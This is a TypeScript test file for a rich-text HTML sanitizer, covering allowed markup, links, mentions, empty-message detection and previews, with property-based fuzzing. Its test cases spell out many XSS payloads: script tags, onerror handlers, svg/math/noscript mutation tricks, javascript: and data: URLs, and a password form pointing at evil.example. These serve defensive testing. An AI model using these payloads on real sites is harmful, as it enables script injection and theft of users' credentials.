import fc from 'fast-check';
import { isEmptyRichText, mentionsOf, previewOf, sanitizeRichText, textOf } from './rich-text';

const REL = 'rel="noopener noreferrer nofollow"';
const ADA = '0199aa00-0000-7000-8000-00000000000a';
const BOB = '0199aa00-0000-7000-8000-00000000000b';

/**
 * Matches everything that may be stored: text without `<`, the allowed tags without attributes, and links with a safe
 * address.
 */
const STORED = new RegExp(
  `^(?:[^<]|</?(?:b|strong|i|em|s|code|pre|blockquote|ul|ol|li|p|a)>|<br />|</span>|<span data-mention="[0-9a-f-]{36}">|<a href="(?:https?://|mailto:)[^"<>\\s]*" ${REL}>)*$`,
  'i',
);

test('keeps the supported markup', () => {
  const written =
    '<p>Hi <strong>all</strong>, <em>see</em> <code>a &lt; b</code></p><ul><li>one</li></ul><p>x<br />y</p>';
  expect(sanitizeRichText(written)).toBe(written);
});

test('keeps web and mail links, without attributes and with a safe rel', () => {
  expect(sanitizeRichText('<a href="https://example.com/?a=1&b=2" onclick="x()" target="_top">x</a>')).toBe(
    `<a href="https://example.com/?a=1&amp;b=2" ${REL}>x</a>`,
  );
  expect(sanitizeRichText('<a href="mailto:a@example.com">x</a>')).toBe(`<a href="mailto:a@example.com" ${REL}>x</a>`);
});

test.each([
  ['script', '<script>alert(1)</script>hi', 'hi'],
  ['script in script', '<scr<script>ipt>alert(1)</script>hi', 'ipt&gt;alert(1)hi'],
  ['unclosed script', 'hi<script>alert(1)', 'hi'],
  ['event handler', '<b onmouseover=alert(1)>hi</b>', '<b>hi</b>'],
  ['event handler after a slash', '<p/onclick=alert(1)>hi</p>', '<p>hi</p>'],
  ['image', '<img src=x onerror=alert(1)>hi', 'hi'],
  ['svg', '<svg><animate onbegin=alert(1)></svg>hi', 'hi'],
  ['svg with a style that hides a tag', '<svg><style><img src=x onerror=alert(1)></style></svg>hi', 'hi'],
  ['math with a hidden style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['noscript with a closing tag in an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['style attribute', '<p style="position:fixed;inset:0">hi</p>', '<p>hi</p>'],
  ['class and id', '<p class="admin" id="root">hi</p>', '<p>hi</p>'],
  ['form', '<form action=//evil.example><input name=password></form>hi', 'hi'],
  ['frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>hi', 'hi'],
  ['base and meta', '<base href=//evil.example><meta http-equiv=refresh content=0>hi', 'hi'],
  ['comment', '<!--><img src=x onerror=alert(1)>-->hi', '--&gt;hi'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>hi', 'hi'],
  ['template', '<template><script>alert(1)</script></template>hi', 'hi'],
])('removes executable or disguised markup: %s', (_name, dirty, clean) => {
  expect(sanitizeRichText(dirty)).toMatch(STORED);
  expect(sanitizeRichText(dirty)).toBe(clean);
});

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
  '/api/auth/logout',
  'https:evil.example',
  'http://a\nb',
])('keeps the text of a link to %j and removes its address', (href) => {
  expect(sanitizeRichText(`<a href="${href}">hi</a>`)).toBe('<a>hi</a>');
});

const fragment = fc.constantFrom(
  ...'<b>|</b>|<a href="|">|<script>|</script>|<img src=x onerror=|<!--|-->|<style>|</style>|<svg>|<p|>|/|"|&lt;|&#60;|javascript:|https://x.y|<|text| |\u0000|<br>|</p>|<textarea>|]]>|<math>|title=\'|<span data-mention="0199aa00-0000-7000-8000-00000000000a">|<span data-mention=|</span>'.split(
    '|',
  ),
);

test('returns only allowed HTML for any input, and returns that HTML unchanged when applied again', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(fragment, fc.string({ maxLength: 4 })), { maxLength: 24 }), (parts) => {
      const once = sanitizeRichText(parts.join(''));
      expect(once).toMatch(STORED);
      expect(sanitizeRichText(once)).toBe(once);
    }),
    { numRuns: 2_000 },
  );
});

test('removes control characters in any notation', () => {
  expect(sanitizeRichText('a&#1b&#x7f;c\u0001d')).toBe('abcd');
});

test('limits the depth of 20,000 nested elements to 32', () => {
  const deep = sanitizeRichText(`${'<b>'.repeat(20_000)}x`);
  expect(deep.match(/<b>/g)?.length ?? 0).toBeLessThanOrEqual(32);
  expect(textOf(deep)).toBe('x');
});

test.each([
  '',
  ' ',
  '<p></p>',
  '<p><br></p>',
  '<p>&nbsp;</p>',
  '\u200b\u200d',
  '\u3164',
  '<p>\u2800\u115f\u034f</p>',
  '\ufe0f',
  '<script>x</script>',
  '<img src=x>',
])('treats %j as empty', (html) => expect(isEmptyRichText(sanitizeRichText(html))).toBe(true));

test.each(['.', '❤️', '\u0301', '한', '\uf8ff'])('treats %j as text', (html) =>
  expect(isEmptyRichText(sanitizeRichText(html))).toBe(false),
);

test('treats a message of escaped markup characters as text', () => {
  expect(isEmptyRichText(sanitizeRichText('&lt;b&gt; &amp;amp;'))).toBe(false);
  expect(textOf(sanitizeRichText('&lt;b&gt; &amp;amp;'))).toBe('<b> &amp;');
});

test('keeps mentions of users without their other attributes', () => {
  const written = `<p>Hi <span data-mention="${ADA}">@Ada</span></p>`;
  expect(sanitizeRichText(written)).toBe(written);
  expect(
    sanitizeRichText(`<span class="x" data-mention="${ADA.toUpperCase()}" onclick="x()" style="color:red">@Ada</span>`),
  ).toBe(`<span data-mention="${ADA}">@Ada</span>`);
});

test.each([
  ['no attribute', '<span>@Ada</span>'],
  ['no id', '<span data-mention="everyone">@Ada</span>'],
  ['an empty id', '<span data-mention="">@Ada</span>'],
  ['an id that is followed by other text', `<span data-mention="${ADA}&quot;x">@Ada</span>`],
  ['another attribute', `<span data-id="${ADA}">@Ada</span>`],
])('keeps the text of a span with %s and removes the span', (_name, html) => {
  expect(sanitizeRichText(html)).toBe('@Ada');
});

test('returns each mentioned user once, in order', () => {
  const mention = (id: string) => `<span data-mention="${id}">@x</span>`;
  expect(mentionsOf(sanitizeRichText(`${mention(BOB)} ${mention(ADA)} ${mention(BOB)}`))).toEqual([BOB, ADA]);
  expect(mentionsOf(sanitizeRichText(`<p>&lt;span data-mention="${ADA}"&gt;</p>`))).toEqual([]);
});

test('creates a preview of one line without markup, cut at a whole character', () => {
  expect(previewOf(sanitizeRichText('<p>Hi <b>all</b></p><ul><li>one</li><li>two &amp; three</li></ul>'))).toBe(
    'Hi all one two & three',
  );
  expect(previewOf('<p>😀😀😀😀</p>', 3)).toBe('😀😀…');
});
